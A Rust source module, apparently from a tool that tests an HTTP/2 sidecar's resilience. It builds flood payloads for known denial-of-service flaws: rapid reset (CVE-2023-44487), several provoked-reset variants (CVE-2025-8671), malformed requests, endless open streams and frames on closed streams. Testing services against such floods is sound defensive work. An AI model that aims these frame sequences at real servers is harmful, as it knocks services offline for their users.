//! Streams that are opened only to end: by the client (CVE-2023-44487), or by the sidecar because the client provokes
//! it (CVE-2025-8671). The app would go on working for each.

use super::attack::Flood;
use crate::http2::frames::{DATA, RST_STREAM, WINDOW_UPDATE, frame, headers, literal, request};

/// `CANCEL`, RFC 9113 section 7.
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// The largest step of a window; with what there is it goes beyond the limit of RFC 9113 section 6.9.1.
const OVERFLOW: [u8; 4] = 0x7fff_ffff_u32.to_be_bytes();

pub const FLOODS: &[Flood] = &[
    Flood::of("h2 rapid reset", |n, out| {
        open(n, out, true);
        frame(out, RST_STREAM, 0, id(n), &CANCEL);
        2
    }),
    Flood::of("h2 reset provoked: window overflow", |n, out| {
        open(n, out, true);
        frame(out, WINDOW_UPDATE, 0, id(n), &OVERFLOW);
        2
    }),
    Flood::of("h2 reset provoked: window step of zero", |n, out| {
        open(n, out, true);
        frame(out, WINDOW_UPDATE, 0, id(n), &[0; 4]);
        2
    }),
    Flood::of("h2 reset provoked: DATA after the end", |n, out| {
        open(n, out, true);
        frame(out, DATA, 0, id(n), b"more");
        2
    }),
    Flood::of("h2 reset provoked: length that lies", |n, out| {
        let mut block = request("POST", "/slow/60000");
        literal(&mut block, "content-length", "1");
        headers(out, id(n), &block, false);
        frame(out, DATA, 0, id(n), b"more");
        2
    }),
    Flood::of("h2 reset provoked: priority on itself", |n, out| {
        open(n, out, true);
        frame(out, crate::http2::frames::PRIORITY, 0, id(n), &[&id(n).to_be_bytes()[..], &[16]].concat());
        2
    }),
    Flood::of("h2 malformed requests", |n, out| {
        // Neither method nor path.
        headers(out, id(n), &[0x80 | 7], true);
        1
    }),
    Flood::of("h2 endless open streams", |n, out| {
        open(n, out, false);
        1
    }),
    Flood { name: "h2 frames on a closed stream", prelude: |out| open(0, out, true), ..Flood::of("", after_the_end) },
];

fn after_the_end(n: u32, out: &mut Vec<u8>) -> u32 {
    if n == 0 {
        frame(out, RST_STREAM, 0, 1, &CANCEL);
    }
    frame(out, DATA, 0, 1, b"late");
    1
}

fn id(n: u32) -> u32 {
    2 * n + 1
}

fn open(n: u32, out: &mut Vec<u8>, ends: bool) {
    headers(out, id(n), &request(if ends { "GET" } else { "POST" }, "/slow/60000"), ends);
}
